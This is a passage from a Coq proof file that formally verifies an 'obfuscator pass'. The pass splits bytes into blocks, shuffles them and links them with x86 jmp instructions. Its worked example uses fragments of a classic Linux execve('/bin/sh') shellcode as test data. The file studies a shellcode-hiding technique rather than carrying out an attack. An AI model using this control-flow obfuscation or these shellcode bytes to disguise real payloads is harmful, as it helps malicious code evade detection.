  induction blocks as [|block rest IH]; [done|].
  cbn [chained concat]. unfold len in *.
  rewrite !length_app, !Nat2Z.inj_add, IH.
  destruct rest as [|next rest']; cbn; lia.
Qed.

Lemma concat_length_perm (l l' : list (list Z)) :
  l ≡ₚ l' -> length (concat l) = length (concat l').
Proof.
  induction 1; cbn; rewrite ?length_app; lia.
Qed.

(** For a block size from 5 to 10 and a shuffle that only rearranges,
    [_obfuscate_flow] succeeds on bytes and logs nothing.  The data is cut
    into consecutive blocks of [block_size] bytes (the last may be shorter,
    none is empty); the result is these blocks in shuffled order, each but
    the last followed by [E9] and the length of the block after it as a
    32-bit little-endian operand.  So the result is longer than the data by
    5 bytes per block after the first. *)
Theorem obfuscate_flow_layout (block_size : Z)
    (shuffle : list (list Z) -> list (list Z)) (data : list Z) (rt : Runtime) :
  5 <= block_size <= 10 ->
  Forall byte data ->
  shuffle (blocks_of block_size data) ≡ₚ blocks_of block_size data ->
  let blocks := blocks_of block_size data in
  concat blocks = data /\
  Forall (λ block, 0 < len block <= block_size) blocks /\
  ObfuscatorPasses._obfuscate_flow block_size shuffle data rt
  = (rt, Returned (chained (shuffle blocks))) /\
  len (chained (shuffle blocks)) = len data + 5 * Z.max 0 (len blocks - 1).
Proof.
  intros Hbs Hdata Hperm blocks.
  assert (Hpos : 0 < block_size) by lia.
  pose proof (blocks_of_sizes block_size data Hpos) as Hsizes.
  fold blocks in Hperm, Hsizes.
  assert (Hsmall : Forall (λ block, len block < 256) (shuffle blocks)).
  { rewrite Hperm. eapply Forall_impl; [exact Hsizes|]. cbn. lia. }
  assert (Hbytes : Forall (Forall byte) (shuffle blocks)).
  { rewrite Hperm. unfold blocks, blocks_of. apply Forall_map, Forall_forall.
    intros k _. cbn. by apply Forall_take, Forall_drop. }
  split_and!.
  - by apply blocks_of_concat.
  - done.
  - unfold ObfuscatorPasses._obfuscate_flow.
    destruct (source_blocks block_size data Hpos) as (starts & Hr & Hb).
    rewrite Hr. cbn [mbind outcome_bind]. rewrite Hb.
    fold blocks. unfold enumerate.
    pose proof (flow_loop [] (shuffle blocks) [] Hsmall) as Hloop.
    cbn [app] in Hloop. change (len (@nil (list Z))) with 0 in Hloop.
    rewrite Hloop. cbn [mbind outcome_bind].
    by rewrite bytes_of_ok by (by apply chained_bytes).
  - rewrite chained_length. unfold len.
    rewrite (concat_length_perm _ _ Hperm), (Permutation_length Hperm).
    unfold blocks. by rewrite blocks_of_concat.
Qed.

Lemma obfuscate_flow_layout_witness :
  let blocks := blocks_of 5 twelve_bytes in
  concat blocks = twelve_bytes /\
  Forall (λ block, 0 < len block <= 5) blocks /\
  ObfuscatorPasses._obfuscate_flow 5 swap_first_two twelve_bytes Runtime_init
  = (Runtime_init, Returned (chained (swap_first_two blocks))) /\
  len (chained (swap_first_two blocks))
  = len twelve_bytes + 5 * Z.max 0 (len blocks - 1).
Proof.
  apply (obfuscate_flow_layout 5 swap_first_two twelve_bytes Runtime_init).
  - lia.
  - repeat constructor; unfold byte; lia.
  - vm_compute. constructor.
Defined.

(** The result on these twelve bytes: the second block, a jump, the first
    block, a jump, the last two bytes. *)
Example obfuscate_flow_on_twelve_bytes :
  (ObfuscatorPasses._obfuscate_flow 5 swap_first_two twelve_bytes
     Runtime_init).2
  = Returned [0x2F; 0x73; 0x68; 0x89; 0xE3;  0xE9; 5; 0; 0; 0;
              0x31; 0xC0; 0x50; 0x68; 0x2F;  0xE9; 2; 0; 0; 0;
              0xCD; 0x80].
Proof. vm_compute. reflexivity. Qed.
